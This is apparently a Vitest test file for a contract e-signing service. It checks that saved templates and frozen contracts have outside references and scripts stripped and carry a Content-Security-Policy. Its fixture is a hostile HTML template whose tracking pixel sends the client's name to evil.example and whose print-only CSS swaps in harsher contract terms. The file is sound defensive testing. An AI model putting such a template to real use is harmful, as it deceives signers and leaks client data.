import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTRACT_DOCUMENT_CSP } from '../../domain/contract-document/index.js';
import type { Contract } from '../../domain/contracts.schemas.js';
import {
  contractorReadyToSend,
  sendContract,
  useDefaultTemplateHtml,
} from '../../test/contract-flow.js';
import { createTestApp, get, jsonPost, type TestApp } from '../../test/test-app.js';

const HOSTILE_TEMPLATE = `<!doctype html><html><head>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css">
<style>
@import url(https://evil.example/b.css);
@font-face { font-family: X; src: url(https://evil.example/f.woff) }
@media print { .screen { display: none } }
@media screen { .print { display: none } }
.head { background: url(https://evil.example/bg.png) }
</style>
</head><body>
<p class="screen">{{money contract.total_cents}}, 10-year warranty</p>
<p class="print">$50,000, no warranty, client waives all claims</p>
<img src="https://evil.example/pixel.png?c={{client.name}}" alt="">
<script>document.title = 'ran'</script>
<p>Client: {{client.name}}</p>
</body></html>`;

const CSP_META = `<meta http-equiv="Content-Security-Policy" content="${CONTRACT_DOCUMENT_CSP}">`;

let t: TestApp;
let cookie: string;

beforeAll(async () => {
  t = await createTestApp();
  cookie = await contractorReadyToSend(t, 'frozen@example.com');
});
afterAll(async () => {
  await t.close();
});

describe('saving a template', () => {
  it('refuses print-only rules and outside references, naming each line', async () => {
    const answer = await jsonPost(
      t.app,
      '/api/templates',
      { name: 'Two versions', html: HOSTILE_TEMPLATE, is_preset: false },
      { cookie },
    );
    expect(answer.statusCode).toBe(400);
    expect(answer.body).toContain('Template has errors: line 2: <base> is removed');
    expect(answer.body).toContain('line 3: <link> is removed');
    expect(answer.body).toMatch(/and \d+ more/);
  });

  it('saves a template whose tokens fill images and links later', async () => {
    const answer = await jsonPost(
      t.app,
      '/api/templates',
      {
        name: 'Plain',
        html: '<p>{{client.name}}</p><img src="{{company.logo}}" alt="">',
        is_preset: false,
      },
      { cookie },
    );
    expect(answer.statusCode).toBe(201);
  });
});

describe('sending a contract', () => {
  it('freezes one self-contained document: what the page shows is what the hash covers', async () => {
    await useDefaultTemplateHtml(t, 'frozen@example.com', HOSTILE_TEMPLATE);
    const { id, sent, token } = await sendContract(t, cookie);
    expect(sent.statusCode).toBe(200);
    const stored = await t.db
      .selectFrom('contracts')
      .select(['template_html', 'template_sha256'])
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    const frozen = stored.template_html ?? '';
    for (const outside of ['evil.example', '@import', '@font-face', '@media', 'url(', '<base']) {
      expect(frozen).not.toContain(outside);
    }
    expect(frozen).not.toMatch(/<(link|script)\b/);
    expect(frozen).toContain(CSP_META);
    expect(frozen).toContain('$5,000.00, 10-year warranty');
    expect(stored.template_sha256).toBe(createHash('sha256').update(frozen).digest('hex'));

    const page = (await get(t.app, `/api/esign/${token}`)).json<{ template_html: string }>();
    expect(page.template_html).toBe(frozen);
    const own = (await get(t.app, `/api/contracts/${id}`, { cookie })).json<Contract>();
    expect(own.template_html).toBe(frozen);
  });

  it('shows a contract frozen before the policy with the policy applied', async () => {
    const { id, token } = await sendContract(t, cookie);
    // As stored by an earlier version: the raw rendered template.
    await t.db
      .updateTable('contracts')
      .set({ template_html: HOSTILE_TEMPLATE.replace('{{client.name}}', 'Jordan') })
      .where('id', '=', id)
      .execute();
    const page = (await get(t.app, `/api/esign/${token}`)).json<{ template_html: string }>();
    expect(page.template_html.startsWith(`<!DOCTYPE html><html><head>${CSP_META}`)).toBe(true);
    expect(page.template_html).not.toContain('evil.example');
    expect(page.template_html).not.toContain('<script');
  });
});
